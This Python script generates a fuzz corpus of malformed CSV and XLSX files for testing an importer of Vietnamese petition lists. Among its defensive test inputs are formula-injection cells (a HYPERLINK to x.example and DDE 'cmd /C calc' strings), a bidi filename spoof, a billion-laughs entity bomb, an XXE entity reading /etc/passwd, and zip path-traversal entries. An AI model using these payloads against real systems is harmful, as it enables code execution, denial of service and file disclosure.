#!/usr/bin/env python3
"""Writes the hand-made malformed list files of fuzz/list/ (run from this folder; the files are committed).
Large or path-dependent inputs (2 MB cell, 1,000,000 columns, zip bombs, an XXE pointing at a temporary
secret) are made by ListFuzzCorpus at test time instead, to keep the repository small."""
import random
import zipfile

HEADER = ("STT,Mã đơn,Ngày tiếp nhận,Người gửi,Số định danh,\"Thôn, tổ dân phố\",Loại đơn,Lĩnh vực,"
          "Nội dung tóm tắt,Trạng thái\r\n")
ROW = "1,,05/10/2026,Trần Văn Một,001080000001,Thôn Đông,Kiến nghị,Đất đai,Đề nghị làm đường liên thôn,Mới tiếp nhận\r\n"


def write(name, data):
    with open("list/" + name, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


write("empty.csv", b"")
write("bom-only.csv", b"\xef\xbb\xbf")
write("header-only.csv", "\ufeff" + HEADER)
write("duplicate-columns.csv", "\ufeff" + HEADER.rstrip("\r\n") + ",Loại đơn,Nội dung\r\n" + ROW.rstrip("\r\n") + ",Khiếu nại,x\r\n")
QUOTED = ROW.replace("Đề nghị làm đường liên thôn", "\"Đề nghị làm đường, liên thôn\"")
write("truncated-mid-quote.csv", "\ufeff" + HEADER + ROW + QUOTED[:QUOTED.index("liên")])
write("windows-1258.csv", (HEADER + ROW).encode("cp1258", errors="replace"))
write("utf16le-no-bom.csv", (HEADER + ROW).encode("utf-16-le"))
write("utf16be-no-bom.csv", (HEADER + ROW).encode("utf-16-be"))
write("nul-bytes.csv", ("\ufeff" + HEADER + ROW.replace("làm đường", "làm\x00đường")).encode("utf-8"))
write("control-chars.csv", "\ufeff" + HEADER + ROW.replace("Trần Văn Một", "Trần\x01Văn\x1bMột\x7f").replace("làm đường", "làm\x0bđường\x0c"))
write("formulas.csv", "\ufeff" + HEADER
      + "1,,05/10/2026,Lê Thị Hai,,Thôn Đông,Kiến nghị,Đất đai,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"bấm\"\")\",Mới tiếp nhận\r\n"
      + "2,,05/10/2026,+cmd|' /C calc'!A0,,Thôn Đông,Kiến nghị,Đất đai,-2+3,Mới tiếp nhận\r\n"
      + "3,,05/10/2026,@SUM(1+1)*cmd|' /C calc'!A0,,Thôn Đông,Kiến nghị,Đất đai,\"\t=1+1\",Mới tiếp nhận\r\n")
write("bidi-override.csv", "\ufeff" + HEADER + ROW.replace("Trần Văn Một", "Trần \u202efdp.exe Một"))
write("only-separators.csv", ",,,,,,,,\r\n;;;;;;\r\n\r\n\r\n")
write("unclosed-quote-at-end.csv", "\ufeff" + HEADER + ROW + "\"")
write("lone-cr-line-breaks.csv", ("\ufeff" + HEADER + ROW).replace("\r\n", "\r"))
write("old-excel.xls", bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) + bytes(504))
rnd = random.Random(20261126)
write("random-bytes.csv", bytes(rnd.getrandbits(8) for _ in range(4096)))
write("random-bytes-pk.xlsx", b"PK\x03\x04" + bytes(rnd.getrandbits(8) for _ in range(4092)))
write("renamed-csv.xlsx", "\ufeff" + HEADER + ROW)

CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
      '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
      '</Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        '</Relationships>')
WB = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
      '<sheet name="DS" sheetId="1" r:id="rId1"/></sheets></workbook>')


def wb_rels(sheet_target="worksheets/sheet1.xml"):
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="' + sheet_target + '"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            '</Relationships>')


CELLS = [["STT", "Ngày tiếp nhận", "Người gửi", "Thôn, tổ dân phố", "Loại đơn", "Lĩnh vực", "Nội dung tóm tắt"],
         ["1", "05/10/2026", "Trần Văn Một", "Thôn Đông", "Kiến nghị", "Đất đai", "Đề nghị làm đường"]]


def sst(strings, doctype=""):
    items = "".join("<si><t>" + s + "</t></si>" for s in strings)
    return ('<?xml version="1.0" encoding="UTF-8"?>' + doctype + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'count="%d" uniqueCount="%d">' % (len(strings), len(strings)) + items + "</sst>")


def sheet(rows):
    index = {}
    xml_rows = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            index.setdefault(value, len(index))
            cells.append('<c r="%s%d" t="s"><v>%d</v></c>' % (chr(65 + c), r, index[value]))
        xml_rows.append('<row r="%d">%s</row>' % (r, "".join(cells)))
    xml = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           '<sheetData>' + "".join(xml_rows) + '</sheetData></worksheet>')
    return xml, list(index)


def xlsx(name, shared=None, sheet_xml=None, rels=None, extra=()):
    xml, strings = sheet(CELLS)
    with zipfile.ZipFile("list/" + name, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CT)
        z.writestr("_rels/.rels", RELS)
        z.writestr("xl/workbook.xml", WB)
        z.writestr("xl/_rels/workbook.xml.rels", rels or wb_rels())
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml or xml)
        z.writestr("xl/sharedStrings.xml", shared if shared is not None else sst(strings))
        for entry, data in extra:
            z.writestr(entry, data)


xlsx("valid-minimal.xlsx")
_, STRINGS = sheet(CELLS)
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join('<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10) for i in range(1, 10))
          + ']>')
xlsx("billion-laughs.xlsx", shared=sst(STRINGS[:-1] + ["&lol9;"], LAUGHS))
xlsx("xxe-external.xlsx", shared=sst(STRINGS[:-1] + ["&xxe;"], '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'))
xlsx("traversal-entry.xlsx", rels=wb_rels("../../../../../tmp/danvan-evil.xml"),
     extra=[("../../../../../tmp/danvan-evil.xml", sheet(CELLS)[0]), ("/tmp/danvan-abs.xml", "x")])
xlsx("bad-cell-reference.xlsx", sheet_xml=sheet(CELLS)[0].replace('r="B2"', 'r="ZZZZZZZZ99999999999"'))
xlsx("string-index-out-of-range.xlsx", sheet_xml=sheet(CELLS)[0].replace("<v>0</v>", "<v>99999</v>", 1)
     .replace('<v>1</v>', '<v>-5</v>', 1))
xlsx("huge-exponent.xlsx", sheet_xml=sheet(CELLS)[0].replace('<c r="B2" t="s"><v>8</v></c>', '<c r="B2"><v>1E999999999</v></c>')
     .replace('<c r="A2" t="s"><v>7</v></c>', '<c r="A2"><v>-1E-999999999</v></c>'))
xlsx("huge-string-index.xlsx", sheet_xml=sheet(CELLS)[0].replace("<v>9</v>", "<v>2000000000</v>", 1))
xlsx("malformed-xml.xlsx", sheet_xml=sheet(CELLS)[0][:-40])
with zipfile.ZipFile("list/no-workbook.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", CT)
    z.writestr("_rels/.rels", RELS)
with open("list/valid-minimal.xlsx", "rb") as f:
    whole = f.read()
write("truncated.xlsx", whole[: len(whole) * 2 // 3])
